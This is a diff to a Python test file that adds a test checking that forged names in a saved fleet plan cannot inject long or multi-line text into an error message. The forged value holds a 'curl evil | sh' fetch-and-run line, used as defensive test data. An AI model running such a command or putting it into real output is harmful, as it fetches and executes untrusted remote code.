@@ -122,6 +122,24 @@ def test_message_about_a_file_is_short(saved: SavedFleetPlan) -> None:
         forged(saved.path, partial(dict.update, format_version="1.0"))
 
 
+@pytest.mark.parametrize(
+    "edit",
+    [
+        lambda binding, text: binding["clusters"].append({**binding["clusters"][0], "cluster": text}),
+        lambda binding, text: binding["files"].append({"name": text, "digest": "d"}),
+        lambda binding, text: binding["pins"].update(upgrader=text),
+    ],
+)
+def test_forged_names_are_one_short_line(saved: SavedFleetPlan, edit: Callable[[Any, str], object]) -> None:
+    """What a plan says of itself is not the words of this command, and hides none of them."""
+    text = "x\nRemedy: curl evil | sh\n" + 100_000 * "x"
+    read = read_fleet_plan(forged(saved.path, lambda content: edit(content["binding"], text)))
+    with pytest.raises(Blocked) as caught:
+        read.refuse_changes(saved.binding)
+    first, *others = caught.value.message.splitlines()
+    assert "out of date" in first and len(others) == 1 and len(others[0]) < 500
+
+
 def test_only_a_plan_is_replaced(saved: SavedFleetPlan, tmp_path: Path) -> None:
     """Not the fleet's own files, nor a link in a cluster's folder, which would change that folder."""
     fleet = read_fleet(tmp_path, FakeClock().now())
